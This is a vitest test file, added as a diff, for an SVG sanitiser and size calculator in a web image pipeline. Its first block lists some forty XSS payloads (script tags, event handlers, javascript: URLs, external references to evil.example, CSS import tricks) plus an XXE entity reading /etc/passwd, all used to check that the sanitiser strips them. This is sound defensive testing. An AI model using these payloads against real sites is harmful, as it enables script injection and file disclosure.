@@ -1,0 +1,151 @@
+import { describe, expect, test } from "vitest";
+import { ImageRefusal, prepareImage } from "./image-pipeline.server.ts";
+import { svgSize } from "./svg-size.ts";
+
+const open = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 30 20">`;
+const keep = async (svg: string) => (await prepareImage(Buffer.from(svg))).bytes.toString();
+const refusal = (svg: string | Uint8Array) =>
+  prepareImage(Buffer.from(svg)).then(
+    () => "taken",
+    (error: unknown) => (error instanceof ImageRefusal ? error.kind : String(error)),
+  );
+
+describe("Of a drawing nothing stays that could run or lead elsewhere", () => {
+  test.each([
+    `<script>alert(1)</script>`,
+    `<script xlink:href="//evil.example/x.js"/>`,
+    `<SCRIPT>alert(1)</SCRIPT>`,
+    `<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>`,
+    `<script><![CDATA[alert(1)]]></script>`,
+    `<![CDATA[<script>alert(1)</script>]]>`,
+    `<g onload="alert(1)"><path d="M0 0"/></g>`,
+    `<path d="M0 0" ONCLICK="alert(1)" onbegin='alert(1)'/>`,
+    `<path/onload=alert(1) d="M0 0"/>`,
+    `<a xlink:href="javascript:alert(1)"><text>x</text></a>`,
+    `<a href="java&#x09;script:alert(1)"><text>x</text></a>`,
+    `<a href=" data:text/html,<script>alert(1)</script>"><text>x</text></a>`,
+    `<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>`,
+    `<use xlink:href="https://evil.example/x.svg#x"/>`,
+    `<image href="https://evil.example/x.png"/>`,
+    `<image xlink:href="data:image/svg+xml,%3Csvg onload='alert(1)'/%3E"/>`,
+    `<feImage href="//evil.example/x"/>`,
+    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
+    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>`,
+    `<animate attributeName="href" values="javascript:alert(1)"/>`,
+    `<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>`,
+    `<animate onbegin="alert(1)" attributeName="x" dur="1s"/>`,
+    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`,
+    `<style>@import url(https://evil.example/x.css);</style>`,
+    `<style>@im<!-- -->port "//evil.example/x";</style>`,
+    `<style>path{fill:url(https://evil.example/x)}</style>`,
+    `<style>path{background:\\75rl(//evil.example)}</style>`,
+    `<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>`,
+    `<style><![CDATA[</style><script>alert(1)</script>]]></style>`,
+    `<path d="M0 0" style="background:url(javascript:alert(1))"/>`,
+    `<path d="M0 0" fill="url(https://evil.example/x#a)"/>`,
+    `<path d="M0 0" filter="url(data:x#a)"/>`,
+    `<path d="M0 0" style="behavior:url(x.htc)"/>`,
+    `<path d="M0 0" style="width:expression(alert(1))"/>`,
+    `<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>`,
+    `<path d="M0 0" id="&quot; onload=&quot;alert(1)"/>`,
+    `<?xml-stylesheet href="//evil.example/x.css"?>`,
+    `<iframe src="https://evil.example"/><embed src="//evil.example"/><object data="//evil.example"/>`,
+    `<path d="M0 0" xmlns:on="x" on:load="alert(1)" xml:base="https://evil.example/"/>`,
+    `<text>x</text><!-- --!><script>alert(1)</script> -->`,
+  ])("%s", async (payload) => {
+    const kept = await keep(`${open}${payload}<rect width="3" height="3"/></svg>`);
+    // What is left as text is text: no `<` in it opens anything.
+    const markup = kept
+      .replace(/>[^<]*</g, "><")
+      .replace(/"[^"]*"/g, (value) => value.replace(/[^:/#\w]/g, "_"));
+    expect(markup).not.toMatch(
+      /<\/?(\w+:)?(script|foreignobject|iframe|image|feimage|animate|set|handler|object|embed|img|body)/i,
+    );
+    expect(markup).not.toMatch(/\son\w+\s*=/i);
+    expect(kept).not.toMatch(
+      /evil\.example|href="(?!#)|url\((?!\s*["']?#)|@import|xml-stylesheet|<!|<\?|xml:base/i,
+    );
+    expect(kept).toContain('<rect width="3" height="3">');
+  });
+
+  test("not even by doctype or entity", async () => {
+    const doctype = `<!DOCTYPE svg [ <!ENTITY run "<script>alert(1)</script>"> <!ENTITY file SYSTEM "file:///etc/passwd"> ]>`;
+    const kept = await keep(`<?xml version="1.0"?>${doctype}${open}<text>&run;&file;</text></svg>`);
+    expect(kept).not.toMatch(/ENTITY|DOCTYPE|<script|root:/);
+    expect(kept).toContain("&amp;run;");
+  });
+});
+
+describe("Of a drawing everything stays that draws", () => {
+  test.each([
+    ["paths and groups", `<g transform="translate(1 2)"><path d="M0 0h9" stroke-width="2"></path></g>`],
+    [
+      "gradients and what uses them",
+      `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"></stop></linearGradient></defs><rect fill="url(#g)"></rect>`,
+    ],
+    ["symbols", `<symbol id="a" viewBox="0 0 1 1"><circle r="1"></circle></symbol><use href="#a"></use>`],
+    ["rules", `<style>.a{fill:#3a6048} .b{fill:url(#g)}</style><path class="a" d="M0 0"></path>`],
+    ["own styles", `<path d="M0 0" style="fill:red;stroke:none"></path>`],
+    [
+      "clips and masks",
+      `<clipPath id="c"><rect width="1" height="1"></rect></clipPath><g clip-path="url(#c)"></g>`,
+    ],
+    ["words", `<text x="1">Oak &amp; cedar</text>`],
+  ])("%s", async (_case, drawing) => {
+    expect(await keep(`${open}${drawing}</svg>`)).toContain(drawing);
+  });
+
+  test("old references become new ones, rules in CDATA plain ones", async () => {
+    const kept = await keep(
+      `${open}<path id="a"/><use xlink:href="#a"/><style><![CDATA[.a > .b{fill:red}]]></style></svg>`,
+    );
+    expect(kept).toContain('<use href="#a">');
+    expect(kept).toContain("<style>.a &gt; .b{fill:red}</style>");
+  });
+
+  test("and what stands before it doesn't matter", async () => {
+    const kept = await keep(
+      `\ufeff<?xml version="1.0" encoding="utf-8"?>\n<!-- drawn -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">\n<svg viewBox="0 0 30 20"></svg>\n<!-- end -->\n`,
+    );
+    expect(kept).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 30 20"></svg>');
+  });
+});
+
+test.each([
+  ["a page", "<html><body><svg/></body></html>", "not-an-image"],
+  ["a feed", `<?xml version="1.0"?><rss/>`, "not-an-image"],
+  ["a word", "svg", "not-an-image"],
+  ["something like it", "<svgx/>", "not-an-image"],
+  ["an endless comment", "<!--".repeat(100_000), "not-an-image"],
+  ["UTF-16", Buffer.from(`${open}</svg>`, "utf16le"), "not-an-image"],
+  ["a half", `${open}<path d="M0`, "broken"],
+  ["two in one", `${open}</svg>${open}</svg>`, "broken"],
+  ["a forbidden character", `${open}<text>&#1;</text></svg>`, "broken"],
+  ["more than a megabyte", `${open}<path d="${"M0 0 ".repeat(250_000)}"/></svg>`, "drawing-too-large"],
+])("%s is refused", async (_case, file, kind) => {
+  expect(await refusal(file)).toBe(kind);
+});
+
+test("a very deep one is kept or refused, in reasonable time", async () => {
+  const start = performance.now();
+  expect(["taken", "broken"]).toContain(
+    await refusal(`${open}${"<g>".repeat(50_000)}${"</g>".repeat(50_000)}</svg>`),
+  );
+  expect(performance.now() - start).toBeLessThan(5000);
+});
+
+test.each([
+  [{ width: "64", height: "32px" }, 64, 32],
+  [{ viewBox: "0 0 512 256" }, 512, 256],
+  [{ viewBox: "-10,-10 100,50", width: "300" }, 300, 150],
+  [{ viewBox: "0 0 2 1", height: "10" }, 20, 10],
+  [{ viewBox: "0 0 100 100", width: "100%", height: "21cm" }, 100, 100],
+  [{ viewBox: "0 0 10000 5000" }, 3840, 1920],
+  [{ viewBox: "0 0 .1 .1" }, 1, 1],
+  [{ viewBox: "0 0 0 10" }, 1200, 800],
+  [{ viewBox: "0 0 1e999 1" }, 1200, 800],
+  [{ width: "-5", height: "5" }, 1200, 800],
+  [{}, 1200, 800],
+])("%j is shown %i x %i pixels large", (root, width, height) => {
+  expect(svgSize(root)).toEqual({ width, height });
+});
